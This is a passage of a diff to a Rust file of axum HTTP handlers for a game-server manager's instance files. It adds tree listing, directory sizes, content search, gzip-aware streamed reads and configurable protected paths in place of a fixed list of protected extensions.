@@ -1,91 +1,235 @@
+use std::collections::HashMap;
 use std::fs;
-use std::path::PathBuf;
+use std::path::{Component, PathBuf};
+use std::sync::Arc;
 
 use axum::{
-    body::Bytes,
-    extract::{DefaultBodyLimit, Multipart, Path},
-    routing::{delete, get, put},
+    body::{Bytes, StreamBody},
+    extract::{DefaultBodyLimit, Multipart, Path, Query},
+    response::sse::{self, KeepAlive, Sse},
+    routing::{delete, get, post, put},
     Json, Router,
 };
 use axum_auth::AuthBearer;
 use color_eyre::eyre::{eyre, Context};
-use fs_extra::TransitProcess;
-use headers::HeaderMap;
-use reqwest::header::CONTENT_LENGTH;
-use serde::Deserialize;
-use tokio::io::AsyncWriteExt;
-use tracing::error;
+use futures::{Stream, StreamExt};
+use headers::{HeaderMap, HeaderName};
+use reqwest::header::{CONTENT_DISPOSITION, CONTENT_LENGTH, CONTENT_RANGE, CONTENT_TYPE};
+use serde::{Deserialize, Serialize};
+use tokio::io::{AsyncBufReadExt, AsyncReadExt, AsyncSeekExt, AsyncWriteExt};
+use tokio::sync::OwnedSemaphorePermit;
+use tokio_util::sync::CancellationToken;
+use tracing::{error, warn};
 use ts_rs::TS;
 use walkdir::WalkDir;
 
 use crate::{
-    auth::user::UserAction,
+    auth::{
+        user::{AuthorizedUser, User, UserAction},
+        user_id::UserId,
+    },
+    console_log::is_in_console_log_dir,
+    correlation::in_current_request,
     error::{Error, ErrorKind},
-    events::{new_fs_event, CausedBy, Event, FSOperation, FSTarget, ProgressionEndValue},
-    prelude::path_to_tmp,
-    traits::t_configurable::TConfigurable,
-    types::InstanceUuid,
+    event_broadcaster::EventBroadcaster,
+    events::{
+        new_fs_event, new_fs_move_event, CausedBy, Event, FSOperation, FSTarget,
+        ProgressionEndValue, ProgressionEventID,
+    },
+    file_annotations::{
+        annotation_of, get_file_annotation, move_file_annotations, read_file_annotations,
+        remove_file_annotations, set_file_annotation, FileAnnotations,
+    },
+    fs_op_limiter::{read_fs_op_limits, write_fs_op_limits, FsOpLimiter, FsOpLimits},
+    fs_op_metrics::{FsOpKind, FsOpTimer},
+    implementations::minecraft::{
+        level_dat::{read_level_summary, LevelSummary},
+        util::read_properties_from_path,
+    },
+    instance_relocation::{copy_dir_verified_cancellable, move_verified},
+    merged_logs::tail_lines_and_len,
+    prelude::{path_to_instances, path_to_tmp},
+    protected_paths::{read_protected_paths, write_protected_paths, ProtectedPaths},
+    remote_fetch::{open_remote_file, FetchLimits},
+    sidecar::is_sidecar,
+    traits::{
+        t_configurable::TConfigurable,
+        t_server::{State, TServer},
+    },
+    types::{InstanceUuid, Snowflake},
+    upload_name_policy::{
+        read_sanitize_policy, sanitize_upload_name, write_sanitize_policy, SanitizePolicy,
+    },
     util::{
-        format_byte, format_byte_download, list_dir, rand_alphanumeric, resolve_path_conflict,
-        scoped_join_win_safe, unzip_file_async, zip_files, zip_files_async, UnzipOption,
+        archive_entry_count, check_path_length, format_byte, format_byte_download,
+        list_archive_entries, list_dir, operation_cancelled, rand_alphanumeric,
+        resolve_path_conflict, scoped_join_win_safe, tree_size, unzip_file_async_with_progress,
+        zip_files, zip_files_async, ProgressThrottle, UnzipOption,
     },
+    writable_paths::{read_writable_paths, write_writable_paths, WritablePaths},
+    zip_stream::write_zip_stream,
     AppState,
 };
 
-// list of protected file extension that cannot be modified
-static PROTECTED_EXTENSIONS: [&str; 10] = [
-    "jar",
-    "lua",
-    "sh",
-    "exe",
-    "bat",
-    "cmd",
-    "msi",
-    "lodestone_config",
-    "out",
-    "inf",
-];
-
-static PROTECTED_DIR_NAME: [&str; 1] = ["mods"];
-
-fn is_path_protected(path: impl AsRef<std::path::Path>) -> bool {
+fn is_path_protected(protected: &ProtectedPaths, path: impl AsRef<std::path::Path>) -> bool {
     let path = path.as_ref();
-    if path.is_dir() {
+    is_protected_as(protected, path, path.is_dir())
+}
+
+// protection of a path whose type is already known, saves a stat per entry when listing
+fn is_protected_as(protected: &ProtectedPaths, path: &std::path::Path, is_dir: bool) -> bool {
+    if is_dir {
         path.file_name()
-            .and_then(|s| s.to_str().map(|s| PROTECTED_DIR_NAME.contains(&s)))
+            .and_then(|s| s.to_str().map(|s| protected.protects_dir_name(s)))
             .unwrap_or(true)
-    } else if let Some(ext) = path.extension() {
+    } else if is_sidecar(path) {
+        // lodestone's own settings of the instance, e.g. the protected paths, the users they
+        // restrict can't lift them
+        true
+    } else if let Some(ext) = underlying_extension(path) {
         ext.to_str()
-            .map(|s| PROTECTED_EXTENSIONS.contains(&s))
+            .map(|s| protected.protects_extension(s))
             .unwrap_or(true)
     } else {
         true
     }
 }
 
+const GZIP_EXTENSION: &str = "gz";
+
+fn is_gzipped(path: &std::path::Path) -> bool {
+    path.extension().map_or(false, |ext| ext == GZIP_EXTENSION)
+}
+
+// gzipped files are read back decompressed, so they are protected like the file they hold,
+// `start.sh.gz` like `start.sh`. A bare `world.gz` is judged by its own extension
+fn underlying_extension(path: &std::path::Path) -> Option<&std::ffi::OsStr> {
+    let ext = path.extension()?;
+    if ext == GZIP_EXTENSION {
+        path.file_stem()
+            .and_then(|stem| std::path::Path::new(stem).extension())
+            .or(Some(ext))
+    } else {
+        Some(ext)
+    }
+}
+
+/// Whether the path is protected for this user, users who can write global files bypass protection
+fn is_path_protected_for(
+    user: &User,
+    protected: &ProtectedPaths,
+    path: impl AsRef<std::path::Path>,
+) -> bool {
+    !user.can_perform_action(&UserAction::WriteGlobalFile) && is_path_protected(protected, path)
+}
+
 use super::{
-    global_fs::{DownloadableFile, FileEntry},
-    util::decode_base64,
+    global_fs::{DownloadableFile, FileEntry, FileType},
+    util::{
+        authorize, decode_base64, instance_locked, resolve_relative_path,
+        resolve_relative_path_dest, RelativePathQuery,
+    },
 };
 
+/// Entry of a listing with everything a file browser renders, from a single stat of the file.
+/// `None` if the path is not under `root`
+fn instance_file_entry(
+    root: &std::path::Path,
+    path: &std::path::Path,
+    annotations: &FileAnnotations,
+    protected: &ProtectedPaths,
+    bypass_protection: bool,
+) -> Option<FileEntry> {
+    if is_in_console_log_dir(root, path) {
+        return None;
+    }
+    let mut r: FileEntry = path.into();
+    // remove the root path from the file path, a name that isn't valid UTF-8 is listed lossily
+    // rather than hidden
+    r.path = path.strip_prefix(root).ok()?.to_string_lossy().into_owned();
+    r.annotation = annotation_of(annotations, root, path).cloned();
+    r.is_protected = Some(
+        !bypass_protection && is_protected_as(protected, path, r.file_type == FileType::Directory),
+    );
+    if r.file_type == FileType::File {
+        r.mime_type = Some(
+            mime_guess::from_path(path)
+                .first_raw()
+                .unwrap_or("application/octet-stream")
+                .to_string(),
+        );
+    }
+    Some(r)
+}
+
+/// Flag the entries whose name is shared with another entry when ignoring case, they would
+/// collide on a case-insensitive filesystem
+fn mark_case_collisions(mut entries: Vec<FileEntry>) -> Vec<FileEntry> {
+    let mut counts: HashMap<String, usize> = HashMap::new();
+    for entry in &entries {
+        *counts.entry(entry.name.to_lowercase()).or_default() += 1;
+    }
+    for entry in &mut entries {
+        entry.case_collision = counts[&entry.name.to_lowercase()] > 1;
+    }
+    entries
+}
+
+/// Run a read of instance files, giving up after `timeout` so a stalled mount doesn't hold the
+/// request forever. The read itself may stay stuck in the background
+async fn with_fs_timeout<T>(
+    timeout: std::time::Duration,
+    read: impl std::future::Future<Output = Result<T, Error>>,
+) -> Result<T, Error> {
+    tokio::time::timeout(timeout, read)
+        .await
+        .map_err(|_| Error {
+            kind: ErrorKind::Timeout,
+            source: eyre!(
+                "The filesystem didn't respond within {}s",
+                timeout.as_secs_f32()
+            ),
+        })?
+}
+
+async fn list_instance_dir(
+    root: PathBuf,
+    path: PathBuf,
+    bypass_protection: bool,
+) -> Result<Vec<FileEntry>, Error> {
+    let annotations = read_file_annotations(&root).await;
+    let protected = read_protected_paths(&root).await;
+    let paths = list_dir(&path, None).await?;
+    // every entry is looked up on disk, off the runtime
+    let entries = tokio::task::spawn_blocking(move || {
+        paths
+            .iter()
+            .filter_map(|p| {
+                instance_file_entry(&root, p, &annotations, &protected, bypass_protection)
+            })
+            .collect::<Vec<FileEntry>>()
+    })
+    .await
+    .context("Failed to list directory")?;
+    Ok(mark_case_collisions(entries))
+}
+
 async fn list_instance_files(
     axum::extract::State(state): axum::extract::State<AppState>,
     Path((uuid, base64_relative_path)): Path<(InstanceUuid, String)>,
+    Query(path_query): Query<RelativePathQuery>,
     AuthBearer(token): AuthBearer,
 ) -> Result<Json<Vec<FileEntry>>, Error> {
-    let relative_path = decode_base64(&base64_relative_path)?;
-    let requester = state.users_manager.read().await.try_auth_or_err(&token)?;
+    let relative_path = resolve_relative_path(&base64_relative_path, &path_query)?;
+    let requester = authorize(&state, &token).await?;
 
-    requester.try_action(
-        &UserAction::ReadInstanceFile(uuid.clone()),
-        state.global_settings.lock().await.safe_mode(),
-    )?;
+    requester.try_action(&UserAction::ReadInstanceFile(uuid.clone()))?;
     if uuid.to_string().starts_with("DOCKER-") {
         let files = state
             .docker_bridge
             .list_files(&uuid, relative_path.into())
             .await?;
-        return Ok(Json(files));
+        return Ok(Json(mark_case_collisions(files)));
     }
     let instance = state.instances.get(&uuid).ok_or_else(|| Error {
         kind: ErrorKind::NotFound,
@@ -95,23 +239,17 @@ async fn list_instance_files(
     drop(instance);
     let path = scoped_join_win_safe(&root, relative_path)?;
 
-    let ret: Vec<FileEntry> = list_dir(&path, None)
-        .await?
-        .iter()
-        .filter_map(move |p| -> Option<FileEntry> {
-            // remove the root path from the file path
-            let mut r: FileEntry = p.as_path().into();
-            r.path = p
-                .strip_prefix(&root)
-                .ok()
-                .and_then(|p| p.to_str())
-                .map(|s| s.to_owned())?;
-            Some(r)
-        })
-        .collect();
+    let bypass_protection = requester.can_perform_action(&UserAction::WriteGlobalFile);
+
+    let timeout = state.global_settings.lock().await.fs_read_timeout();
+    let ret = with_fs_timeout(
+        timeout,
+        list_instance_dir(root, path.clone(), bypass_protection),
+    )
+    .await?;
     let caused_by = CausedBy::User {
-        user_id: requester.uid,
-        user_name: requester.username,
+        user_id: requester.uid.clone(),
+        user_name: requester.username.clone(),
     };
     state.event_broadcaster.send(new_fs_event(
         FSOperation::Read,
@@ -121,369 +259,766 @@ async fn list_instance_files(
     Ok(Json(ret))
 }
 
-async fn read_instance_file(
+// bounds for the recursive listing, a modpack can easily have tens of thousands of files
+const MAX_TREE_DEPTH: usize = 8;
+const MAX_TREE_NODES: usize = 5000;
+
+#[derive(Debug, Serialize, TS)]
+#[ts(export)]
+struct FileTreeNode {
+    entry: FileEntry,
+    /// `None` for files, and for directories past the requested depth
+    children: Option<Vec<FileTreeNode>>,
+}
+
+#[derive(Debug, Serialize, TS)]
+#[ts(export)]
+struct FileTree {
+    entries: Vec<FileTreeNode>,
+    /// whether the listing was cut short by the node limit
+    truncated: bool,
+}
+
+#[derive(Deserialize)]
+struct FileTreeQuery {
+    depth: Option<usize>,
+}
+
+fn build_file_tree(
+    root: &std::path::Path,
+    dir: &std::path::Path,
+    depth: usize,
+    max_nodes: usize,
+) -> FileTree {
+    fn close(stack: &mut Vec<FileTreeNode>, entries: &mut Vec<FileTreeNode>) {
+        if let Some(node) = stack.pop() {
+            match stack.last_mut() {
+                Some(parent) => parent.children.get_or_insert_with(Vec::new).push(node),
+                None => entries.push(node),
+            }
+        }
+    }
+
+    let mut entries = Vec::new();
+    // directories still being filled, the one at index i is at walk depth i + 1
+    let mut stack: Vec<FileTreeNode> = Vec::new();
+    let mut node_count = 0;
+    let mut truncated = false;
+    for entry in WalkDir::new(dir)
+        .min_depth(1)
+        .max_depth(depth)
+        .sort_by_file_name()
+        .into_iter()
+        .filter_entry(|e| !is_in_console_log_dir(root, e.path()))
+        .filter_map(|e| e.ok())
+    {
+        if node_count >= max_nodes {
+            truncated = true;
+            break;
+        }
+        node_count += 1;
+        while stack.len() >= entry.depth() {
+            close(&mut stack, &mut entries);
+        }
+        let mut file_entry: FileEntry = entry.path().into();
+        file_entry.path = entry
+            .path()
+            .strip_prefix(root)
+            .unwrap_or_else(|_| entry.path())
+            .to_string_lossy()
+            .into_owned();
+        if entry.file_type().is_dir() && entry.depth() < depth {
+            stack.push(FileTreeNode {
+                entry: file_entry,
+                children: Some(Vec::new()),
+            });
+        } else {
+            let node = FileTreeNode {
+                entry: file_entry,
+                children: None,
+            };
+            match stack.last_mut() {
+                Some(parent) => parent.children.get_or_insert_with(Vec::new).push(node),
+                None => entries.push(node),
+            }
+        }
+    }
+    while !stack.is_empty() {
+        close(&mut stack, &mut entries);
+    }
+    FileTree { entries, truncated }
+}
+
+async fn get_instance_file_tree(
     axum::extract::State(state): axum::extract::State<AppState>,
     Path((uuid, base64_relative_path)): Path<(InstanceUuid, String)>,
+    Query(path_query): Query<RelativePathQuery>,
+    Query(FileTreeQuery { depth }): Query<FileTreeQuery>,
     AuthBearer(token): AuthBearer,
-) -> Result<String, Error> {
-    let relative_path = decode_base64(&base64_relative_path)?;
-    let requester = state.users_manager.read().await.try_auth_or_err(&token)?;
-    requester.try_action(
-        &UserAction::ReadInstanceFile(uuid.clone()),
-        state.global_settings.lock().await.safe_mode(),
-    )?;
-    if uuid.to_string().starts_with("DOCKER-") {
-        let file = state
-            .docker_bridge
-            .read_container_file(&uuid, relative_path.into())
-            .await?;
-        return Ok(file);
-    }
+) -> Result<Json<FileTree>, Error> {
+    let relative_path = resolve_relative_path(&base64_relative_path, &path_query)?;
+    let requester = authorize(&state, &token).await?;
+    requester.try_action(&UserAction::ReadInstanceFile(uuid.clone()))?;
     let instance = state.instances.get(&uuid).ok_or_else(|| Error {
         kind: ErrorKind::NotFound,
         source: eyre!("Instance not found"),
     })?;
     let root = instance.path().await;
     drop(instance);
-    let path = scoped_join_win_safe(root, relative_path)?;
+    let path = scoped_join_win_safe(&root, relative_path)?;
+    if !path.is_dir() {
+        return Err(Error {
+            kind: ErrorKind::BadRequest,
+            source: eyre!("Path is not a directory"),
+        });
+    }
+    let depth = depth.unwrap_or(2).clamp(1, MAX_TREE_DEPTH);
+
+    let tree = tokio::task::spawn_blocking({
+        let path = path.clone();
+        move || build_file_tree(&root, &path, depth, MAX_TREE_NODES)
+    })
+    .await
+    .context("Failed to build file tree")?;
 
-    let ret = tokio::fs::read_to_string(&path)
-        .await
-        .context("Failed to read file")?;
     let caused_by = CausedBy::User {
-        user_id: requester.uid,
-        user_name: requester.username,
+        user_id: requester.uid.clone(),
+        user_name: requester.username.clone(),
     };
     state.event_broadcaster.send(new_fs_event(
         FSOperation::Read,
-        FSTarget::File(path),
+        FSTarget::Directory(path),
         caused_by,
     ));
-    Ok(ret)
+    Ok(Json(tree))
 }
 
-async fn write_instance_file(
+#[derive(Debug, Serialize, TS, PartialEq, Eq)]
+#[ts(export)]
+struct DirSize {
+    /// sum of the sizes of every file under the directory
+    total_bytes: u64,
+    /// `total_bytes` for display
+    total_size: String,
+    file_count: u64,
+    /// directories under it, not counting itself
+    dir_count: u64,
+}
+
+/// Size of the directory at `path` and how many files and directories it holds. Symlinks aren't
+/// followed and entries that can't be read are left out
+fn dir_size(path: &std::path::Path) -> DirSize {
+    let size = tree_size([path]);
+    DirSize {
+        total_bytes: size.bytes,
+        total_size: format_byte(size.bytes),
+        file_count: size.files,
+        dir_count: size.dirs,
+    }
+}
+
+async fn dir_size_instance(
     axum::extract::State(state): axum::extract::State<AppState>,
     Path((uuid, base64_relative_path)): Path<(InstanceUuid, String)>,
+    Query(path_query): Query<RelativePathQuery>,
     AuthBearer(token): AuthBearer,
-    body: Bytes,
-) -> Result<Json<()>, Error> {
-    let relative_path = decode_base64(&base64_relative_path)?;
-    let requester = state.users_manager.read().await.try_auth_or_err(&token)?;
-    requester.try_action(
-        &UserAction::WriteInstanceFile(uuid.clone()),
-        state.global_settings.lock().await.safe_mode(),
-    )?;
-    if uuid.to_string().starts_with("DOCKER-") {
-        state
-            .docker_bridge
-            .write_container_file(&uuid, relative_path.into(), &body)
-            .await?;
-        return Ok(Json(()));
-    }
+) -> Result<Json<DirSize>, Error> {
+    let relative_path = resolve_relative_path(&base64_relative_path, &path_query)?;
+    let requester = authorize(&state, &token).await?;
+    requester.try_action(&UserAction::ReadInstanceFile(uuid.clone()))?;
     let instance = state.instances.get(&uuid).ok_or_else(|| Error {
         kind: ErrorKind::NotFound,
         source: eyre!("Instance not found"),
     })?;
     let root = instance.path().await;
     drop(instance);
-    let path = scoped_join_win_safe(root, relative_path)?;
-    // if target has a protected extension, or no extension, deny
-    if !requester.can_perform_action(&UserAction::WriteGlobalFile) && is_path_protected(&path) {
+    let path = scoped_join_win_safe(&root, relative_path)?;
+    if !path.is_dir() {
         return Err(Error {
-            kind: ErrorKind::PermissionDenied,
-            source: eyre!("You don't have permission to write to this file"),
+            kind: ErrorKind::BadRequest,
+            source: eyre!("Path is not a directory"),
         });
     }
-    let mut file = tokio::fs::File::create(&path)
-        .await
-        .context("Failed to create file")?;
-    file.write_all(&body)
-        .await
-        .context("Failed to write to file")?;
+
+    // a deep tree takes a while to walk
+    let timeout = state.global_settings.lock().await.fs_read_timeout();
+    let size = with_fs_timeout(timeout, async {
+        let path = path.clone();
+        let size = tokio::task::spawn_blocking(move || dir_size(&path))
+            .await
+            .context("Failed to compute directory size")?;
+        Ok(size)
+    })
+    .await?;
 
     let caused_by = CausedBy::User {
-        user_id: requester.uid,
-        user_name: requester.username,
+        user_id: requester.uid.clone(),
+        user_name: requester.username.clone(),
     };
     state.event_broadcaster.send(new_fs_event(
-        FSOperation::Write,
-        FSTarget::File(path),
+        FSOperation::Read,
+        FSTarget::Directory(path),
         caused_by,
     ));
-    Ok(Json(()))
+    Ok(Json(size))
 }
 
-async fn make_instance_directory(
+// bounds for the search, a world can hold gigabytes of region files
+const DEFAULT_SEARCH_RESULTS: usize = 100;
+const MAX_SEARCH_RESULTS: usize = 1000;
+const MAX_SEARCH_SCANNED_BYTES: u64 = 64 * 1024 * 1024;
+// larger files are only matched on their name, configs are a few kilobytes
+const MAX_SEARCHED_FILE_SIZE: u64 = 4 * 1024 * 1024;
+
+#[derive(Debug, Clone, Copy, Default, Deserialize, PartialEq, Eq, TS)]
+#[serde(rename_all = "snake_case")]
+#[ts(export)]
+enum SearchTarget {
+    Names,
+    Contents,
+    #[default]
+    NamesAndContents,
+}
+
+#[derive(Debug, Deserialize, TS)]
+#[ts(export)]
+struct SearchRequest {
+    query: String,
+    /// only entries matching it are searched. Without a `/` it matches the name, e.g. `*.json`,
+    /// otherwise the path relative to the searched directory, e.g. `config/**/*.toml`
+    glob: Option<String>,
+    #[serde(default)]
+    case_sensitive: bool,
+    #[serde(default)]
+    target: SearchTarget,
+    max_results: Option<usize>,
+}
+
+/// Entries under `dir` whose name or content contains the query, in walk order. The walk stops
+/// at `max_results` matches or once `max_scanned_bytes` of content has been read. Binary files
+/// and files larger than `MAX_SEARCHED_FILE_SIZE` are only matched on their name
+fn search_dir(
+    root: &std::path::Path,
+    dir: &std::path::Path,
+    request: &SearchRequest,
+    annotations: &FileAnnotations,
+    protected: &ProtectedPaths,
+    bypass_protection: bool,
+    max_scanned_bytes: u64,
+) -> Result<Vec<FileEntry>, Error> {
+    let glob = request
+        .glob
+        .as_deref()
+        .map(|glob| {
+            globset::GlobBuilder::new(glob)
+                .literal_separator(true)
+                .build()
+                .map(|glob| glob.compile_matcher())
+                .map_err(|e| Error {
+                    kind: ErrorKind::BadRequest,
+                    source: eyre!("Invalid glob {glob}: {e}"),
+                })
+        })
+        .transpose()?;
+    let glob_on_name = request
+        .glob
+        .as_deref()
+        .map_or(false, |glob| !glob.contains('/'));
+    let normalize = |text: &str| {
+        if request.case_sensitive {
+            text.to_string()
+        } else {
+            text.to_lowercase()
+        }
+    };
+    let query = normalize(&request.query);
+    let max_results = request
+        .max_results
+        .unwrap_or(DEFAULT_SEARCH_RESULTS)
+        .clamp(1, MAX_SEARCH_RESULTS);
+
+    let mut matches = Vec::new();
+    let mut scanned_bytes = 0;
+    for entry in WalkDir::new(dir)
+        .min_depth(1)
+        .sort_by_file_name()
+        .into_iter()
+        .filter_entry(|e| !is_in_console_log_dir(root, e.path()))
+        .filter_map(|e| e.ok())
+    {
+        if matches.len() >= max_results || scanned_bytes >= max_scanned_bytes {
+            break;
+        }
+        let is_dir = entry.file_type().is_dir();
+        if !bypass_protection && is_protected_as(protected, entry.path(), is_dir) {
+            continue;
+        }
+        if let Some(glob) = &glob {
+            let candidate = if glob_on_name {
+                std::path::Path::new(entry.file_name())
+            } else {
+                entry.path().strip_prefix(dir).unwrap_or(entry.path())
+            };
+            if !glob.is_match(candidate) {
+                continue;
+            }
+        }
+        let name_matches = request.target != SearchTarget::Contents
+            && normalize(&entry.file_name().to_string_lossy()).contains(&query);
+        let mut content_matches = || {
+            if request.target == SearchTarget::Names || !entry.file_type().is_file() {
+                return false;
+            }
+            let size = entry.metadata().map(|m| m.len()).unwrap_or(u64::MAX);
+            if size > MAX_SEARCHED_FILE_SIZE {
+                return false;
+            }
+            let Ok(content) = std::fs::read(entry.path()) else {
+                return false;
+            };
+            scanned_bytes += content.len() as u64;
+            !content.contains(&0) && normalize(&String::from_utf8_lossy(&content)).contains(&query)
+        };
+        if name_matches || content_matches() {
+            if let Some(file_entry) = instance_file_entry(
+                root,
+                entry.path(),
+                annotations,
+                protected,
+                bypass_protection,
+            ) {
+                matches.push(file_entry);
+            }
+        }
+    }
+    Ok(matches)
+}
+
+/// Find the files and directories under a directory of the instance by name or content, e.g.
+/// which config sets a value
+async fn search_instance_files(
     axum::extract::State(state): axum::extract::State<AppState>,
     Path((uuid, base64_relative_path)): Path<(InstanceUuid, String)>,
+    Query(path_query): Query<RelativePathQuery>,
     AuthBearer(token): AuthBearer,
-) -> Result<Json<()>, Error> {
-    let relative_path = decode_base64(&base64_relative_path)?;
-    let requester = state.users_manager.read().await.try_auth_or_err(&token)?;
-    requester.try_action(
-        &UserAction::WriteInstanceFile(uuid.clone()),
-        state.global_settings.lock().await.safe_mode(),
-    )?;
+    Json(request): Json<SearchRequest>,
+) -> Result<Json<Vec<FileEntry>>, Error> {
+    let relative_path = resolve_relative_path(&base64_relative_path, &path_query)?;
+    let requester = authorize(&state, &token).await?;
+    requester.try_action(&UserAction::ReadInstanceFile(uuid.clone()))?;
+    if request.query.is_empty() {
+        return Err(Error {
+            kind: ErrorKind::BadRequest,
+            source: eyre!("Search query is empty"),
+        });
+    }
     let instance = state.instances.get(&uuid).ok_or_else(|| Error {
         kind: ErrorKind::NotFound,
         source: eyre!("Instance not found"),
     })?;
     let root = instance.path().await;
     drop(instance);
-    let path = scoped_join_win_safe(root, relative_path)?;
-    // create the file if it doesn't exist
-    crate::util::fs::create_dir_all(&path).await?;
+    let path = scoped_join_win_safe(&root, relative_path)?;
+    if !path.is_dir() {
+        return Err(Error {
+            kind: ErrorKind::BadRequest,
+            source: eyre!("Path is not a directory"),
+        });
+    }
+    let bypass_protection = requester.can_perform_action(&UserAction::WriteGlobalFile);
+    let annotations = read_file_annotations(&root).await;
+    let protected = read_protected_paths(&root).await;
+
+    let timeout = state.global_settings.lock().await.fs_read_timeout();
+    let matches = with_fs_timeout(timeout, async {
+        let path = path.clone();
+        tokio::task::spawn_blocking(move || {
+            search_dir(
+                &root,
+                &path,
+                &request,
+                &annotations,
+                &protected,
+                bypass_protection,
+                MAX_SEARCH_SCANNED_BYTES,
+            )
+        })
+        .await
+        .context("Failed to search directory")?
+    })
+    .await?;
 
     let caused_by = CausedBy::User {
-        user_id: requester.uid,
-        user_name: requester.username,
+        user_id: requester.uid.clone(),
+        user_name: requester.username.clone(),
     };
     state.event_broadcaster.send(new_fs_event(
-        FSOperation::Create,
+        FSOperation::Read,
         FSTarget::Directory(path),
         caused_by,
     ));
-    Ok(Json(()))
+    Ok(Json(matches))
 }
 
-#[derive(Deserialize, TS)]
-#[ts(export)]
-struct CopyInstanceFileRequest {
-    relative_paths_source: Vec<PathBuf>,
-    relative_path_dest: PathBuf,
+/// Tree of the instances directory, with paths relative to it so every instance shows up
+/// under its own folder. Only for users allowed to read global files
+fn build_instances_file_tree(
+    requester: &AuthorizedUser,
+    instances_root: &std::path::Path,
+    relative_path: &str,
+    depth: usize,
+) -> Result<(PathBuf, FileTree), Error> {
+    requester.try_action(&UserAction::ReadGlobalFile)?;
+    let path = scoped_join_win_safe(instances_root, relative_path)?;
+    if !path.is_dir() {
+        return Err(Error {
+            kind: ErrorKind::BadRequest,
+            source: eyre!("Path is not a directory"),
+        });
+    }
+    let tree = build_file_tree(instances_root, &path, depth, MAX_TREE_NODES);
+    Ok((path, tree))
 }
 
-async fn copy_instance_files(
+async fn get_instances_file_tree(
     axum::extract::State(state): axum::extract::State<AppState>,
-    Path(uuid): Path<InstanceUuid>,
+    Path(base64_relative_path): Path<String>,
+    Query(path_query): Query<RelativePathQuery>,
+    Query(FileTreeQuery { depth }): Query<FileTreeQuery>,
     AuthBearer(token): AuthBearer,
-    Json(CopyInstanceFileRequest {
-        relative_paths_source,
-        relative_path_dest,
-    }): Json<CopyInstanceFileRequest>,
-) -> Result<Json<()>, Error> {
-    let requester = state.users_manager.read().await.try_auth_or_err(&token)?;
-    requester.try_action(
-        &UserAction::WriteInstanceFile(uuid.clone()),
-        state.global_settings.lock().await.safe_mode(),
-    )?;
+) -> Result<Json<FileTree>, Error> {
+    let relative_path = resolve_relative_path(&base64_relative_path, &path_query)?;
+    let requester = authorize(&state, &token).await?;
+    let depth = depth.unwrap_or(2).clamp(1, MAX_TREE_DEPTH);
+    let caused_by = CausedBy::User {
+        user_id: requester.uid.clone(),
+        user_name: requester.username.clone(),
+    };
+
+    let (path, tree) = tokio::task::spawn_blocking(move || {
+        build_instances_file_tree(&requester, path_to_instances(), &relative_path, depth)
+    })
+    .await
+    .context("Failed to build file tree")??;
+
+    state.event_broadcaster.send(new_fs_event(
+        FSOperation::Read,
+        FSTarget::Directory(path),
+        caused_by,
+    ));
+    Ok(Json(tree))
+}
+
+/// Content of a text file, gzipped files are decompressed
+async fn read_instance_text(path: &std::path::Path) -> Result<String, Error> {
+    Ok(if is_gzipped(path) {
+        String::from_utf8(read_gzipped_capped(path, READ_GZIPPED_MAX_SIZE).await?)
+            .context("Failed to read file")?
+    } else {
+        tokio::fs::read_to_string(path)
+            .await
+            .context("Failed to read file")?
+    })
+}
+
+async fn read_instance_file(
+    axum::extract::State(state): axum::extract::State<AppState>,
+    Path((uuid, base64_relative_path)): Path<(InstanceUuid, String)>,
+    Query(path_query): Query<RelativePathQuery>,
+    AuthBearer(token): AuthBearer,
+) -> Result<String, Error> {
+    let relative_path = resolve_relative_path(&base64_relative_path, &path_query)?;
+    let requester = authorize(&state, &token).await?;
+    requester.try_action(&UserAction::ReadInstanceFile(uuid.clone()))?;
+    if uuid.to_string().starts_with("DOCKER-") {
+        let file = state
+            .docker_bridge
+            .read_container_file(&uuid, relative_path.into())
+            .await?;
+        return Ok(file);
+    }
     let instance = state.instances.get(&uuid).ok_or_else(|| Error {
         kind: ErrorKind::NotFound,
         source: eyre!("Instance not found"),
     })?;
     let root = instance.path().await;
     drop(instance);
-    // join each path to the root
-    let paths_source = relative_paths_source
-        .iter()
-        .map(|p| scoped_join_win_safe(root.clone(), p))
-        .collect::<Result<Vec<_>, _>>()?;
+    let path = scoped_join_win_safe(root, relative_path)?;
+
+    let timeout = state.global_settings.lock().await.fs_read_timeout();
+    let ret = with_fs_timeout(timeout, read_instance_text(&path)).await?;
+    let caused_by = CausedBy::User {
+        user_id: requester.uid.clone(),
+        user_name: requester.username.clone(),
+    };
+    state.event_broadcaster.send(new_fs_event(
+        FSOperation::Read,
+        FSTarget::File(path),
+        caused_by,
+    ));
+    Ok(ret)
+}
 
-    let path_dest = scoped_join_win_safe(root, &relative_path_dest)?;
+// size of the chunks a streamed read is sent in
+const READ_STREAM_CHUNK_SIZE: usize = 64 * 1024;
 
-    if !requester.can_perform_action(&UserAction::WriteGlobalFile) && is_path_protected(&path_dest)
-    {
-        return Err(Error {
-            kind: ErrorKind::PermissionDenied,
-            source: eyre!("You don't have permission to write to this file"),
-        });
-    }
+type ReadStream = futures::stream::BoxStream<'static, std::io::Result<Bytes>>;
 
-    // if the destination path is a subdirectory of any of the source paths, deny
-    if paths_source.iter().any(|p| path_dest.starts_with(p)) {
+/// Stream a file from disk instead of buffering it, gzipped files are decompressed as they are
+/// streamed
+async fn open_read_stream(path: &std::path::Path) -> Result<ReadStream, Error> {
+    let file = tokio::fs::File::open(path)
+        .await
+        .context("Failed to open file")?;
+    if file
+        .metadata()
+        .await
+        .context("Failed to read file metadata")?
+        .is_dir()
+    {
         return Err(Error {
             kind: ErrorKind::BadRequest,
-            source: eyre!("You can't copy a directory to a subdirectory of itself"),
+            source: eyre!("Path is a directory"),
         });
     }
-
-    let event_broadcaster = state.event_broadcaster.clone();
-
+    if !is_gzipped(path) {
+        return Ok(
+            tokio_util::io::ReaderStream::with_capacity(file, READ_STREAM_CHUNK_SIZE).boxed(),
+        );
+    }
+    let file = file.into_std().await;
+    let (tx, rx) = tokio::sync::mpsc::channel(4);
     tokio::task::spawn_blocking(move || {
-        let mut first = true;
-        let mut threshold = 500000_u64;
-        let mut elapsed_bytes = 0_u64;
-        let mut last_progression = 0_u64;
-        let mut progression_event_id = None;
-
-        let handle = |process_info: TransitProcess| {
-            if first {
-                threshold = process_info.total_bytes / 100;
-                let (progression_event_start, _progression_event_id) =
-                    Event::new_progression_event_start(
-                        "Copying files(s)",
-                        Some(process_info.total_bytes as f64),
-                        None,
-                        CausedBy::User {
-                            user_id: requester.uid.clone(),
-                            user_name: requester.username.clone(),
-                        },
-                    );
-                event_broadcaster.send(progression_event_start);
-                progression_event_id = Some(_progression_event_id);
-                first = false;
-                elapsed_bytes = process_info.copied_bytes;
-            } else {
